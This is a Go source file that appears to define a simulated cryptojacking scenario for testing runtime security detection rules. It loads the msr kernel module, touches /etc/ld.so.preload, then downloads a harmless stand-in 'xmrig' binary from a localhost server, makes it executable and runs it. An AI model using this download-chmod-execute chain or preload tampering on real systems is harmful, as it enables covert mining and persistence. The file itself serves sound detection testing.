package simulate

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// minerSiteAddr is the attacker's download site, inside the victim's
// network.
const minerSiteAddr = "127.0.0.1:8000"

func crypto() *Scenario {
	return &Scenario{
		ID:      "crypto",
		Summary: "modprobe msr, touches /etc/ld.so.preload, downloads a \"miner\" (busybox named xmrig), makes it executable and runs it",
		Rules: []string{"runtime.cpu-optimization", "runtime.kernel-module-load-in-container", "runtime.ld-preload",
			"runtime.crypto-miner-download", "runtime.download-chmod-exec", "runtime.drift-binary-executed", "runtime.crypto-miner-process"},
		Victim: VictimSpec{
			Name:  "crypto",
			Links: map[string]string{"/sbin/modprobe": "/bin/busybox"},
		},
		Run: func(ctx context.Context, s *Session) error {
			// The "miner" is the victim's own busybox under another name
			// (so it fits the node's architecture): run as xmrig it only
			// says that it knows no such command.
			miner, err := s.Victim.Exec(ctx, "/bin/cat", "/bin/busybox")
			if err != nil || !strings.HasPrefix(miner, "\x7fELF") {
				return fmt.Errorf("read the victim's busybox for the miner: %v", err)
			}
			stop, err := serve(s.Victim, minerSiteAddr, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path != "/xmrig" {
					http.NotFound(w, r)
					return
				}
				w.Header().Set("Content-Type", "application/octet-stream")
				_, _ = io.WriteString(w, miner)
			}))
			if err != nil {
				return err
			}
			defer stop()
			// Both fail in the container (no modules, no CAP_SYS_MODULE;
			// touch succeeds only in the container's own /etc): the
			// alerts are on the intent.
			s.Step("runtime.cpu-optimization", "runtime.kernel-module-load-in-container")
			if _, err := s.Exec(ctx, "/sbin/modprobe", "msr", "allow_writes=on"); err != nil {
				return err
			}
			s.Step("runtime.ld-preload")
			if _, err := s.Exec(ctx, "/bin/touch", "/etc/ld.so.preload"); err != nil {
				return err
			}
			s.Step("runtime.crypto-miner-download", "runtime.download-chmod-exec", "runtime.drift-binary-executed", "runtime.crypto-miner-process")
			if _, err := s.Exec(ctx, "/bin/wget", "-q", "-O", "/tmp/xmrig", "http://"+minerSiteAddr+"/xmrig"); err != nil {
				return err
			}
			if _, err := s.Exec(ctx, "/bin/chmod", "+x", "/tmp/xmrig"); err != nil {
				return err
			}
			out, err := s.Exec(ctx, "/tmp/xmrig", "--donate-level", "1")
			if err != nil {
				return err
			}
			return errIf(strings.Contains(out, "applet not found"), "the downloaded miner did not run: %q", out)
		},
	}
}
